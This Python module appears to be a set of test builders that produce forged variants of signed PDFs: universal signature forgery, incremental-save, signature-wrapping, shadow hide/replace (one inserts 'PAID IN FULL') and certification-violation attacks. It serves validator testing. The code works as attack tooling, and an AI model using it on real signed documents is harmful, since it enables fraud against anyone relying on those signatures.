"""Builders of attacked PDFs for the verification tests, each made from a real signed PDF.

The classes follow the published PDF signature attacks: universal signature forgery (USF: the validator
is given a signature it cannot check), incremental saving attacks (ISA: content appended after the
signed revision), signature wrapping (SWA: objects hidden in the unsigned hole of the byte range), shadow
attacks (content prepared before signing, shown or replaced after it) and certification-level
violations. Every builder returns the new file as bytes; none of them re-signs anything.
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer
from pyhanko.sign import signers

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def byte_range(data: bytes) -> tuple[re.Match[bytes], list[int]]:
    """Return the last ``/ByteRange`` of the file and its four numbers."""
    match = list(_BYTE_RANGE.finditer(data))[-1]
    return match, [int(value) for value in match.groups()]


def _replace_same_length(data: bytes, start: int, end: int, replacement: bytes) -> bytes:
    """Overwrite ``data[start:end]`` in place, padding with spaces so that no offset moves."""
    assert len(replacement) <= end - start, "replacement longer than the original"
    return data[:start] + replacement.ljust(end - start, b" ") + data[end:]


def usf_contents_zeroed(data: bytes) -> bytes:
    """USF: the /Contents string is all zeros (an empty signature container)."""
    _, (_, first_length, second_start, _) = byte_range(data)
    hole = b"<" + b"0" * (second_start - first_length - 2) + b">"
    return data[:first_length] + hole + data[second_start:]


def usf_contents_removed(data: bytes) -> bytes:
    """USF: the /Contents key of the signature dictionary is renamed, so there is no signature value."""
    _, (_, first_length, _, _) = byte_range(data)
    key = data.rindex(b"/Contents", 0, first_length + 1)
    return data[:key] + b"/Cxntents" + data[key + len(b"/Contents"):]


def usf_byte_range_removed(data: bytes) -> bytes:
    """USF: the /ByteRange key is renamed, so nothing says which bytes are signed."""
    match, _ = byte_range(data)
    return data[:match.start()] + b"/BxteRange" + data[match.start() + len(b"/ByteRange"):]


def usf_byte_range_broken(data: bytes) -> bytes:
    """USF: /ByteRange [0 0 0 0], a byte range that signs nothing."""
    match, _ = byte_range(data)
    return _replace_same_length(data, match.start(), match.end(), b"/ByteRange [0 0 0 0]")


def byte_range_overlapping(data: bytes) -> bytes:
    """The two parts of the byte range overlap: the second starts inside the first."""
    match, (start, first_length, second_start, second_length) = byte_range(data)
    overlapping = f"/ByteRange [{start} {first_length} {first_length - 100} {second_length + 100}]".encode()
    return _replace_same_length(data, match.start(), match.end(), overlapping)


def signature_wrapping(data: bytes) -> bytes:
    """SWA: objects written into the unused zero padding of the /Contents hole, and an update using them.

    The signature value (DER) stays; after it the hole gets ``>``, a new page content stream as object
    and spaces. An incremental update then points page 1's /Contents at that object.
    """
    _, (_, first_length, second_start, _) = byte_range(data)
    hole = data[first_length:second_start]
    der_end = len(hole.rstrip(b"0>"))
    der_end += der_end % 2  # keep whole hex pairs
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    object_number = int(reader.trailer["/Size"])
    payload = (b">\n" + f"{object_number} 0 obj\n".encode() + b"<< /Length 28 >>\nstream\n"
               + b"1 0 0 rg 0 0 600 800 re f   \nendstream\nendobj\n")
    new_hole = hole[:der_end] + payload
    assert len(new_hole) < len(hole), "no room in the /Contents hole"
    new_hole = new_hole + b" " * (len(hole) - len(new_hole) - 1) + b"%"
    wrapped = data[:first_length] + new_hole + data[second_start:]

    # The update's xref gives the object the offset inside the hole.
    offset = first_length + der_end + 2
    page_ref = reader.find_page_for_modification(0)[0] if hasattr(reader, "find_page_for_modification") \
        else _reader_first_page(reader)
    page = page_ref.get_object()
    page_text = _page_dict_with_contents(page, object_number)
    previous_xref = _startxref(data)
    update_start = len(wrapped)
    body = f"{page_ref.idnum} {page_ref.generation} obj\n{page_text}\nendobj\n".encode()
    xref_offset = update_start + len(body)
    size = object_number + 1
    xref = (f"xref\n0 1\n0000000000 65535 f \n{page_ref.idnum} 1\n{update_start:010d} {page_ref.generation:05d} n \n"
            f"{object_number} 1\n{offset:010d} 00000 n \n"
            f"trailer\n<< /Size {size} /Root {reader.root_ref.idnum} 0 R /Prev {previous_xref} >>\n"
            f"startxref\n{xref_offset}\n%%EOF\n").encode()
    return wrapped + body + xref


def _reader_first_page(reader: PdfFileReader) -> generic.IndirectObject:
    node = reader.root.raw_get("/Pages")
    while node.get_object().get("/Type") == "/Pages":
        node = node.get_object()["/Kids"].raw_get(0)
    return node


def _startxref(data: bytes) -> int:
    return int(data[data.rindex(b"startxref") + len(b"startxref"):].split()[0])


def _page_dict_with_contents(page: generic.DictionaryObject, contents_number: int) -> str:
    """Serialise a page dictionary with /Contents replaced by one reference."""
    entries = []
    for key, value in page.items():
        if key == "/Contents":
            continue
        raw = page.raw_get(key)
        stream = io.BytesIO()
        raw.write_to_stream(stream)
        entries.append(f"{key} {stream.getvalue().decode('latin-1')}")
    entries.append(f"/Contents {contents_number} 0 R")
    return "<< " + " ".join(entries) + " >>"


def isa_page_content(data: bytes) -> bytes:
    """ISA: an incremental update that draws a new rectangle over page 1."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    stream = generic.StreamObject(stream_data=b"0 0 1 rg 10 10 200 200 re f")
    writer.add_stream_to_page(0, writer.add_object(stream))
    return _write(writer)


def isa_replaced_signature_dictionary(data: bytes) -> bytes:
    """ISA: an update makes the signature field's /V a new dictionary (a copy with another /Name)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    field_ref = writer.root["/AcroForm"]["/Fields"][0]
    field = field_ref.get_object()
    signature = field["/V"]
    copy = generic.DictionaryObject({key: signature.raw_get(key) for key in signature})
    copy[generic.NameObject("/Name")] = generic.TextStringObject("Forged Signer")
    field[generic.NameObject("/V")] = writer.add_object(copy)
    writer.update_container(field)
    return _write(writer)


def shadow_hide(data: bytes) -> bytes:
    """Shadow *hide*: the signed page carries an opaque overlay as its last content stream; the update
    drops it, so that the content it covered shows. Expects a PDF made by ``with_overlay``."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    page = _first_page(writer)[1]
    contents = page["/Contents"]
    page[generic.NameObject("/Contents")] = generic.ArrayObject(list(contents.raw_get(index)
                                                                     for index in range(len(contents) - 1)))
    writer.update_container(page)
    return _write(writer)


def shadow_replace_referenced(data: bytes) -> bytes:
    """Shadow *replace* through a referenced object: the update rewrites the overlay stream object the
    signed page refers to (same object number, new content), without touching the page itself."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    page = _first_page(writer)[1]
    overlay_ref = page["/Contents"].raw_get(len(page["/Contents"]) - 1)
    replacement = generic.StreamObject(stream_data=b"BT /F1 24 Tf 50 700 Td (PAID IN FULL) Tj ET")
    writer.mark_update(overlay_ref)
    writer.objects[(overlay_ref.generation, overlay_ref.idnum)] = replacement
    return _write(writer)


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Shadow *hide-and-replace*: the update replaces the whole page object by another one (same object
    number) whose content is the prepared overlay alone."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    page_ref, page = _first_page(writer)
    overlay_ref = page["/Contents"].raw_get(len(page["/Contents"]) - 1)
    new_page = generic.DictionaryObject({key: page.raw_get(key) for key in page})
    new_page[generic.NameObject("/Contents")] = overlay_ref
    writer.mark_update(page_ref)
    writer.objects[(page_ref.generation, page_ref.idnum)] = new_page
    return _write(writer)


def with_overlay(data: bytes) -> bytes:
    """Return an unsigned copy of a PDF whose page 1 ends with a white overlay content stream."""
    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(data), strict=False))
    stream = generic.StreamObject(stream_data=b"1 1 1 rg 0 0 300 300 re f")
    writer.add_stream_to_page(0, writer.add_object(stream))
    return _write(writer)


def add_annotation(data: bytes) -> bytes:
    """An update that adds a square annotation to page 1 (allowed at DocMDP level 3 only)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    page_ref, page = _first_page(writer)
    annotation = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Square"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (10, 10, 100, 100)]),
        generic.NameObject("/P"): page_ref,
    }))
    annotations = page.get("/Annots", generic.ArrayObject())
    annotations = generic.ArrayObject(list(annotations) + [annotation])
    page[generic.NameObject("/Annots")] = annotations
    writer.update_container(page)
    return _write(writer)


def sign_despite_certification(data: bytes, signer, field_name: str = "Signature2") -> bytes:
    """Add an approval signature although the certification signature forbids it (pyHanko refuses to,
    so its check is switched off while this signs, as an attacker's tool would not have it)."""
    from pyhanko.sign.signers.pdf_signer import PdfSigner

    original = PdfSigner._enforce_certification_constraints
    PdfSigner._enforce_certification_constraints = lambda self, reader: None
    try:
        writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
        metadata = signers.PdfSignatureMetadata(field_name=field_name)
        return signers.sign_pdf(writer, metadata, signer=signer).getvalue()
    finally:
        PdfSigner._enforce_certification_constraints = original


def _first_page(writer) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    page_ref, _ = writer.find_page_for_modification(0)
    return page_ref, page_ref.get_object()


def _write(writer) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _text_appearance(writer, font_ref: generic.IndirectObject, value: str) -> generic.IndirectObject:
    stream = generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 200, 30)]),
        generic.NameObject("/Resources"): generic.DictionaryObject({
            generic.NameObject("/Font"): generic.DictionaryObject({generic.NameObject("/Helv"): font_ref})}),
    }, stream_data=f"/Tx BMC BT /Helv 12 Tf 2 10 Td ({value}) Tj ET EMC".encode("ascii"))
    return writer.add_object(stream)


def with_text_field(data: bytes, name: str = "Amount", value: str = "100.00") -> bytes:
    """An update that adds a visible text field with a value and its appearance to page 1 (unsigned)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    page_ref, page = _first_page(writer)
    font_ref = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Font"),
        generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
        generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
    }))
    field_ref = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/FT"): generic.NameObject("/Tx"),
        generic.NameObject("/T"): generic.TextStringObject(name),
        generic.NameObject("/V"): generic.TextStringObject(value),
        generic.NameObject("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (50, 50, 250, 80)]),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/P"): page_ref,
        generic.NameObject("/AP"): generic.DictionaryObject(
            {generic.NameObject("/N"): _text_appearance(writer, font_ref, value)}),
    }))
    annotations = generic.ArrayObject(list(page.get("/Annots", generic.ArrayObject())) + [field_ref])
    page[generic.NameObject("/Annots")] = annotations
    writer.update_container(page)
    writer.root[generic.NameObject("/AcroForm")] = generic.DictionaryObject({
        generic.NameObject("/Fields"): generic.ArrayObject([field_ref]),
        generic.NameObject("/DR"): generic.DictionaryObject({generic.NameObject("/Font"): generic.DictionaryObject(
            {generic.NameObject("/Helv"): font_ref})}),
    })
    writer.update_root()
    return _write(writer)


def fill_text_field(data: bytes, value: str, name: str = "Amount", appearance: bool = True) -> bytes:
    """An update that sets a text field's value and, with ``appearance``, a matching appearance stream
    (what a viewer saves after form filling; pyHanko allows it after an approval signature)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    for field_ref in writer.root["/AcroForm"]["/Fields"]:
        field = field_ref.get_object()
        if field.get("/T") != name:
            continue
        field[generic.NameObject("/V")] = generic.TextStringObject(value)
        if appearance:
            font_ref = writer.root["/AcroForm"]["/DR"]["/Font"].raw_get("/Helv")
            field[generic.NameObject("/AP")] = generic.DictionaryObject(
                {generic.NameObject("/N"): _text_appearance(writer, font_ref, value)})
        writer.update_container(field)
        return _write(writer)
    raise ValueError(f"no text field {name}")
